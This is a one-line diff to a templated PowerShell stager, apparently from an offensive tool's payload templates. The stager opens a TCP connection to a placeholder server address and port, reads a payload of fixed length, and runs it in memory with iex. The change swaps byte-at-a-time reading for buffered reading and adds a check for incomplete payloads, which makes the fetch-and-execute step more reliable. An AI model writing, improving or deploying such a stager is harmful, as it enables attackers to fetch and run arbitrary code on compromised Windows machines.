@@ -1 +1 @@
-$client = New-Object System.Net.Sockets.TcpClient("{{SERVER_IP}}", {{SERVER_PORT}}); $s = $client.GetStream();$buffer = new-object System.Byte[] 1;$encoding = new-object System.Text.AsciiEncoding;$receivedData = "";while ($true) {$bytesRead = $s.Read($buffer, 0, $buffer.Length);$chunk = $encoding.GetString($buffer, 0, $bytesRead);$receivedData += $chunk;if ($receivedData.Length -eq {{PAYLOAD_SIZE}}) {break;}} $s.Close(); $client.Close(); iex -Command $receivedData;
+$client = New-Object System.Net.Sockets.TcpClient("{{SERVER_IP}}", {{SERVER_PORT}}); $s = $client.GetStream();$len = {{PAYLOAD_SIZE}};$buffer = New-Object System.Byte[] $len;$total = 0;while ($total -lt $len) {$bytesRead = $s.Read($buffer, $total, $len - $total);if ($bytesRead -le 0) {break;}$total += $bytesRead;} $s.Close(); $client.Close(); if ($total -ne $len) {throw "Incomplete payload"} iex -Command ([System.Text.Encoding]::UTF8.GetString($buffer));